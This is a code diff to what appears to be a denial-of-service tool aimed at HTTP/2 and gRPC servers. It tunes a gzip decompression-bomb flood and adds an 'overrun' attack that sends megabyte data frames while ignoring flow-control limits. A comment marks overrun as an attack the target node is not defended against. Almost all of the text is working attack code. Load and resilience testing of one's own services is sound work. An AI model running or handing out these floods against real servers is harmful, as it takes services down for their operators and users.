@@ -19,7 +19,7 @@ READ_BYTES = 1 << 18
 CONNECTS_AT_ONCE = 64
 HEAD_TABLE_REQUESTS = 100_000  # on one connection, then another
 BLOCK = 1_000
-GZIP_BOMB_BYTES = 256 << 20
+GZIP_BOMB_BYTES = 60 << 20  # packed it fits into the first window
 FILES_KEPT = 64  # of the attacker's own descriptors
 
 
@@ -258,7 +258,7 @@ def languages(target, http, until, counts):
 
 
 def bombs(target, http, until, counts):
-    """Requests of 256 KiB that are 256 MiB when they are unpacked, on 4 connections."""
+    """Requests of 60 KiB that are 60 MiB when they are unpacked: 25 a second on each of 4 connections."""
     packed = gzip.compress(bytes(GZIP_BOMB_BYTES))
     head = http2.request_head(PATH, target.authority, (b"grpc-encoding", b"gzip"))
     whole = http2.message(packed, compressed=True)
@@ -270,9 +270,25 @@ def bombs(target, http, until, counts):
 
     def chunks(number):
         yield HELLO
-        for stream in range(1, 2_000, 2):
+        due = time.monotonic()
+        for stream in range(1, 100_000, 2):
+            while time.monotonic() < due:
+                yield b""
             yield call(stream)
+            due += 1 / 25
     Flood(target, counts, chunks, connections=4).run(until)
+
+
+def overrun(target, http, until, counts):
+    """Requests of a megabyte that don't wait for credit, as fast as they are taken, on 4 connections."""
+    whole = http2.message(bytes((1 << 20) - 64))
+    head = http2.request_head(PATH, target.authority)
+
+    def call(stream):
+        ends = range(0, len(whole), 16_384)
+        return http2.frame(http2.HEADERS, http2.END_HEADERS, stream, head) + b"".join(
+            http2.frame(http2.DATA, http2.END_STREAM if at == ends[-1] else 0, stream, whole[at:at + 16_384]) for at in ends)
+    Flood(target, counts, lambda number: itertools.chain([HELLO], map(call, range(1, 100_000, 2))), connections=4).run(until)
 
 
 def spin(target, http, until, counts):
@@ -284,3 +300,5 @@ def spin(target, http, until, counts):
 ATTACKS = {attack.__name__.replace("_", "-"): attack
            for attack in (spin, resets, reset_calls, headers, pings, slow_headers, half_calls, unread, connections, descriptors,
                           churn, languages, bombs)}
+# What the node is not defended against. Only by name.
+BY_NAME = {"overrun": overrun}
